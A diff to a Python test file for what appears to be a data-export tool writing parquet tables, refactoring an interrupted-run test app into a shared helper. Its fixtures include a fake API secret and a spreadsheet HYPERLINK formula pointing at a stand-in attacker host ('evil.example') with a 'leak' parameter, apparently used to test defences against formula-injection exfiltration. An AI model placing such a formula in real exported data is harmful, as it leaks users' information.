@@ -31,7 +31,7 @@ from typing import Any
 
 import pyarrow.parquet as pq
 import pytest
-from tests.support import interrupted_while_held, oloproof, write_project
+from tests.support import HOLDING_APP, interrupted_while_held, oloproof, write_project
 
 SECRET = "sk-probe-7f3a9c21"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
@@ -228,23 +228,16 @@ def test_parquet_holds_integers_arrow_cannot_type_as_json_text(tmp_path: Path) -
     assert str(table.schema.field("metadata.count").type) == "int64"
 
 
-INTERRUPTED_APP = """
-import sys
-import time
-from pathlib import Path
-
-HERE = Path(__file__).parent
-
+INTERRUPTED_APP = (
+    HOLDING_APP
+    + """
 
 def answer(case):
     if case["q"] == "q5":  # the run is interrupted here
-        sys.stderr.write("sleeping\\n")
-        sys.stderr.flush()
-        while not (HERE / "release").exists():
-            time.sleep(0.05)
-        raise RuntimeError("released")
+        hold("sleeping")
     return {"answer": case["q"]}
 """
+)
 
 
 # The planned ids, one of them holding the declared secret, and the same as the tables hold them.
